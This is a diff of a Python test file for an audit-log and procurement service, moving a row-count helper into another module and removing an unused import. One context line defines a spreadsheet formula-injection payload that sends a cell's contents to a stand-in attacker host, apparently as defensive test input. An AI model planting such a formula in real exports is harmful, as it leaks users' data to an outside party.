@@ -23,10 +23,11 @@ from typing import Any
 import pytest
 from conftest import Clock, Harness
 from fastapi.testclient import TestClient
+from log_checks import row_counts
 from log_surgery import append_behind_the_back, stored_entries
 from nacl.signing import SigningKey
 from procurement_support import LINE, Scenario, fresh_npwp, register_vendor, vendor_body
-from sqlalchemy import func, select
+from sqlalchemy import select
 
 from audit.remote import verify_log
 from audit.verifier import LogFault, LogReplayer
@@ -49,14 +50,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 @pytest.fixture
 def after_rule(harness_factory: Callable[..., Harness]) -> Harness:
     return harness_factory(clock=Clock(AFTER_RULE))
-
-
-def row_counts(h: Harness) -> tuple[int, ...]:
-    with h.ledger.engine.connect() as conn:
-        return tuple(
-            conn.execute(select(func.count()).select_from(table)).scalar_one()
-            for table in (storage.entries, storage.tree_nodes, storage.projection_rows)
-        )
 
 
 def refused(h: Harness, action: Callable[[], object], code: str) -> TerangError:
